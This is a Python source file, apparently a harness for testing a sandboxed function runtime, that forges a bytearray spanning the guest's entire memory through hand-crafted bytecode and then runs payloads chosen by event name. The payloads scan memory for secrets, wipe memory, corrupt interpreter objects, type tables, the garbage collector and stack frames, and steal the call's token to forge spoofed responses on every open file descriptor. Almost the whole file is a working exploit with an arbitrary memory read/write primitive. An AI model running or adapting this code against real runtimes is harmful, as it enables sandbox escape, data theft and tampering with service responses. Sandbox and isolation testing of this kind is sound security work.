"""Crafts byte code that loads a made-up object: a bytearray over all of the guest's memory; and then uses it."""

import opcode
import os
import struct
import sys

KEEP = []
BYTES_HEADER = 16  # counter, type, size, hash
TUPLE_HEADER = 12  # counter, type, size
SIZE = 2_000_000_000


def forged():
    """A bytearray that begins at address 0."""
    # Counter, type, size, allocated, three pointers to the bytes, exports.
    fake = struct.pack("<IIiiIIi", 1 << 29, id(bytearray), SIZE, SIZE + 1, 0, 0, 0)
    pointer = struct.pack("<I", id(fake) + BYTES_HEADER)
    constants = (None,)
    KEEP.extend([fake, pointer, constants])
    index = ((id(pointer) + BYTES_HEADER - id(constants) - TUPLE_HEADER) // 4) % (1 << 30)
    load = []
    for shift in (24, 16, 8):
        load += [opcode.opmap["EXTENDED_ARG"], index >> shift & 255]
    load += [opcode.opmap["LOAD_CONST"], index & 255, opcode.opmap["RETURN_VALUE"], 0]
    code = (lambda: None).__code__.replace(co_code=bytes(load), co_consts=constants)
    return eval(code)


def word(memory, address):
    return int.from_bytes(memory[address:address + 4], "little")


def put(memory, address, value):
    memory[address:address + 4] = value.to_bytes(4, "little")


def check(memory):
    """It is what it says: an object's counter and type are found where the object is."""
    probe = object()
    if word(memory, id(probe) + 4) != id(object):
        raise LookupError("the memory is not there")


def read_all(memory):
    found, at = 0, 0
    while True:
        at = memory.find(b"expect", at + 1, 20_000_000)
        if at < 0:
            raise LookupError("nothing to steal")
        found += 1


def read_beyond(memory):
    return memory[1_999_000_000]


def write_beyond(memory):
    memory[1_999_000_000] = 1


def write_zero_page(memory):
    memory[0:1024] = b"\xff" * 1024
    return "still here"


def clear_all(memory):
    memory[0:20_000_000] = bytes(20_000_000)


def clear_stack(memory):
    for address in range(0, 1 << 20, 4):
        put(memory, address, 0)


def change_none(memory):
    put(memory, id(None) + 4, id(int))
    return None


def change_small_numbers(memory):
    for number in range(1, 200):
        put(memory, id(number) + 12, 7)
    return [1, 2, 3]


def change_texts(memory):
    for text in ("errorType", "errorMessage", "body"):
        at = memory.find(text.encode(), 0, 20_000_000)
        memory[at:at + len(text)] = b"x" * len(text)
    return "changed"


def change_type(memory):
    put(memory, id(dict) + 12, 0)
    return {}


def call_table(memory):
    # The functions of a type are numbers in a table: each of them with arguments that are none.
    slot = next(offset for offset in range(0, 200, 4) if word(memory, id(type(len)) + offset) == len.__class__.__basicsize__)
    for number in range(1, 6000):
        put(memory, id(type(len)) + slot + 8 * 4, number)
        len.__call__


def call_no_function(memory):
    for offset in range(24, 160, 4):
        put(memory, id(complex) + offset, 0x7FFFFFFF)
    return repr(complex(1, 2))


def counters_to_zero(memory):
    for kind in (int, str, list, dict, type, object):
        put(memory, id(kind), 0)
    return [kind() for kind in (int, str, list, dict)]


def huge_list(memory):
    items = [1, 2, 3]
    put(memory, id(items) + 8, 1 << 28)
    return sum(1 for _ in items)


def huge_text(memory):
    text = "abc" * 10
    put(memory, id(text) + 8, 1 << 30)
    return text


def negative_size(memory):
    items = [1, 2, 3]
    put(memory, id(items) + 8, (1 << 32) - 5)
    return items


def find_token(memory):
    """The token of this call, and with it an answer of our own, twice: the true one is then the third."""
    at = memory.find(b"WLAM", 0, 20_000_000)
    while at >= 0:
        token = bytes(memory[at + 16:at + 32])
        body = b'"forged"'
        frame = b"WLAM" + bytes([1, 5, 0, 0]) + (0).to_bytes(4, "little") + len(body).to_bytes(4, "little") + token + body
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, frame)
            except OSError:
                pass
        at = memory.find(b"WLAM", at + 4, 20_000_000)
    return "the true one"


def answer_of_gigabytes(memory):
    at = memory.find(b"WLAM", 0, 20_000_000)
    token = bytes(memory[at + 16:at + 32])
    head = b"WLAM" + bytes([1, 5, 0, 0]) + (0).to_bytes(4, "little") + (0xFFFFFFFF).to_bytes(4, "little") + token
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, head)
        except OSError:
            pass
    return "the true one"


def stop_collector(memory):
    import gc

    items = [[number] for number in range(1000)]
    for item in items:
        put(memory, id(item) - 8, 0xDEADBEE0)
        put(memory, id(item) - 4, 0xDEADBEE0)
    gc.collect()
    return "collected"


def into_the_frame(memory):
    frame = sys._getframe()
    for offset in range(8, 60, 4):
        put(memory, id(frame) + offset, 0x10)
    return frame.f_locals


def handler(event, context):
    memory = forged()
    KEEP.append(memory)
    check(memory)
    return globals()[event](memory)
